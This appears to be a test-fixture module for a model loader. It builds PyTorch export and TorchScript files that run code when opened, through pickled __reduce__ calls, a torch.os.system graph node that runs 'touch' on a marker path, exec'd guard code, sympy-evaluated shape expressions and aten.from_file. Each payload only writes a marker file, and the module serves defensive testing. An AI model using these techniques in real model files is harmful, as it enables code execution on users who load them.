"""Model files that run code when a careless loader opens them: each writes a marker file, the proof it ran.

Made the way an attacker would: a real ``torch.export.save`` of a program whose weight, constant or sample
inputs carry a pickled call, or a real export whose archive members are then edited (its program JSON, an
extra member), a TorchScript module whose source writes a file, pickles that call ``open``. A loader that runs
none of them leaves the marker unwritten.
"""

from __future__ import annotations

import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

class OpensMarker:
    """Unpickled, it calls ``open(marker, "w")``: the marker file exists if (and only if) the pickle ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def marker_tensor(marker: Path) -> type[torch.Tensor]:
    """A tensor subclass whose pickle opens ``marker``: torch.export.save pickles a subclass (``use_pickle``)."""

    class PickledPayload(torch.Tensor):
        def __reduce_ex__(self, protocol):
            return (open, (str(marker), "w"))

    return PickledPayload


class WithConstant(nn.Module):
    """A small classifier of 1x28x28 images with a tensor constant (lifted into the program's constants)."""

    def __init__(self) -> None:
        super().__init__()
        self.linear = nn.Linear(28 * 28, 10)
        self.scale = torch.ones(10)  # neither parameter nor buffer: a constant of the exported program
        self.register_buffer("offset", torch.zeros(10))  # a weight that may be any tensor (a parameter may not)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(x.flatten(1)) * self.scale + self.offset


METADATA = {"input_shape": [1, 28, 28], "normalize": None, "class_names": [str(k) for k in range(10)],
            "model": {"name": "with_constant"}, "data": "mnist"}


def _program() -> torch.export.ExportedProgram:
    return torch.export.export(WithConstant().eval(), (torch.zeros(2, 1, 28, 28),), strict=False)


def _save(program: torch.export.ExportedProgram, path: Path, metadata: dict | None = None) -> Path:
    torch.export.save(program, path, extra_files={"modelforge.json": json.dumps(metadata or METADATA)})
    return path


def clean_pt2(path: Path, metadata: dict | None = None) -> Path:
    return _save(_program(), path, metadata)


def pt2_pickled_weight(path: Path, marker: Path) -> Path:
    """A buffer (a weight of the state dict) of a tensor subclass: torch.export.save pickles it."""
    program = _program()
    program.state_dict["offset"] = program.state_dict["offset"].as_subclass(marker_tensor(marker))
    return _save(program, path)


def pt2_pickled_constant(path: Path, marker: Path) -> Path:
    program = _program()
    (name,) = program.constants
    program.constants[name] = program.constants[name].as_subclass(marker_tensor(marker))
    return _save(program, path)


def pt2_pickled_sample_inputs(path: Path, marker: Path) -> Path:
    program = _program()
    program._example_inputs = ((torch.zeros(2, 1, 28, 28),), {"payload": OpensMarker(marker)})
    return _save(program, path)


def edited(source: Path, path: Path, edit: Callable[[dict[str, bytes]], None]) -> Path:
    """``source``'s archive with its members (names below the root folder -> bytes) changed by ``edit``."""
    with zipfile.ZipFile(source) as archive:
        root = archive.namelist()[0].split("/", 1)[0] + "/"  # torch names it after the file (archive/ in memory)
        members = {name[len(root):]: archive.read(name) for name in archive.namelist()}
    edit(members)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(root + name, data)
    path.write_bytes(buffer.getvalue())
    return path


def _edit_program(members: dict[str, bytes], change: Callable[[dict], None]) -> None:
    program = json.loads(members["models/model.json"])
    change(program)
    members["models/model.json"] = json.dumps(program).encode()


def pt2_opaque_constant(path: Path, marker: Path) -> Path:
    """An "opaque object" constant: torch.export.load unpickles it with pickle.loads."""
    def edit(members: dict[str, bytes]) -> None:
        config = json.loads(members["data/constants/model_constants_config.json"])
        (name,) = config["config"]
        config["config"][name] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                  "tensor_meta": None}
        members["data/constants/model_constants_config.json"] = json.dumps(config).encode()
        members["data/constants/opaque_obj_0"] = pickle.dumps(OpensMarker(marker))

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path, edit)


def pt2_system_call(path: Path, marker: Path) -> Path:
    """A graph node whose target torch resolves by getattr from ``torch``: ``torch.os.system``, run by forward."""
    def change(program: dict) -> None:
        nodes = program["graph_module"]["graph"]["nodes"]
        call = {"target": "torch.os.system", "name": "payload", "metadata": {}, "is_hop_single_tensor_return": None,
                "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
                "outputs": [{"as_none": True}]}
        nodes.insert(0, call)
        program["verifiers"] = []  # torch's verifier, which would refuse the call, is the program's to name

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path,
                  lambda members: _edit_program(members, change))


def pt2_from_file_op(path: Path, marker: Path) -> Path:
    """A graph node calling aten.from_file(shared=True), an op torch's verifier allows: forward creates the file."""
    def change(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        graph["nodes"].insert(0, {
            "target": "torch.ops.aten.from_file.default", "name": "payload", "metadata": {},
            "is_hop_single_tensor_return": None, "outputs": [{"as_tensor": {"name": "payload"}}],
            "inputs": [{"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
                       {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                       {"name": "size", "arg": {"as_int": 1}, "kind": 1}]})
        graph["tensor_values"]["payload"] = {**next(iter(graph["tensor_values"].values())),
                                             "sizes": [{"as_int": 1}], "strides": [{"as_int": 1}]}

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path,
                  lambda members: _edit_program(members, change))


def pt2_guard_code(path: Path, marker: Path) -> Path:
    """Guard code: torch.export.load's module() ``exec``s it, and forward runs it."""
    def change(program: dict) -> None:
        program["guards_code"] = [f"open({str(marker)!r}, 'w') is not None"]

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path,
                  lambda members: _edit_program(members, change))


def pt2_shape_expression(path: Path, marker: Path) -> Path:
    """A shape expression: torch parses it with sympy.sympify, which evaluates it as Python."""
    def change(program: dict) -> None:
        values = program["graph_module"]["graph"]["tensor_values"]
        first = next(iter(values.values()))
        first["sizes"][0] = {"as_expr": {"expr_str": f"open({str(marker)!r}, 'w') and 2", "hint": {"as_int": 2}}}

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path,
                  lambda members: _edit_program(members, change))


def pt2_legacy_weights(path: Path, marker: Path) -> Path:
    """torch's legacy layout: the weights as one pickle, which torch.export.load unpickles."""
    def edit(members: dict[str, bytes]) -> None:
        buffer = io.BytesIO()
        torch.save({"payload": OpensMarker(marker)}, buffer)
        members["data/weights/model.pt"] = buffer.getvalue()

    return edited(clean_pt2(path.with_name("clean_" + path.name)), path, edit)


class WritesFile(nn.Module):
    """TorchScript whose forward creates a file: torch.from_file(shared=True) opens it with O_CREAT."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.linear = nn.Linear(28 * 28, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.marker, True, 1)
        return self.linear(x.flatten(1)) + mapped.sum() * 0


def torchscript_from_file(path: Path, marker: Path) -> Path:
    with warnings.catch_warnings():  # torch.jit.* is deprecated: a file of that kind is what is tested
        warnings.simplefilter("ignore", DeprecationWarning)
        module = torch.jit.script(WritesFile(str(marker)))
        torch.jit.save(module, str(path), _extra_files={"modelforge.json": json.dumps(METADATA)})
    return path


def torchscript_pickled_data(path: Path, marker: Path) -> Path:
    """A TorchScript file whose data.pkl calls open: torch's TorchScript unpickler refuses it (pinned)."""
    source = path.with_name("clean_" + path.name)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.trace(WithConstant().eval(), torch.zeros(1, 1, 28, 28)), str(source),
                       _extra_files={"modelforge.json": json.dumps(METADATA)})

    def edit(members: dict[str, bytes]) -> None:
        members["data.pkl"] = pickle.dumps(OpensMarker(marker), protocol=2)

    return edited(source, path, edit)


PT2_PAYLOADS = {"pickled weight": pt2_pickled_weight, "pickled constant": pt2_pickled_constant,
                "pickled sample inputs": pt2_pickled_sample_inputs, "opaque object constant": pt2_opaque_constant,
                "torch.os.system node": pt2_system_call,
                "aten.from_file node": pt2_from_file_op, "guard code": pt2_guard_code,
                "sympy shape expression": pt2_shape_expression, "legacy pickled weights": pt2_legacy_weights}
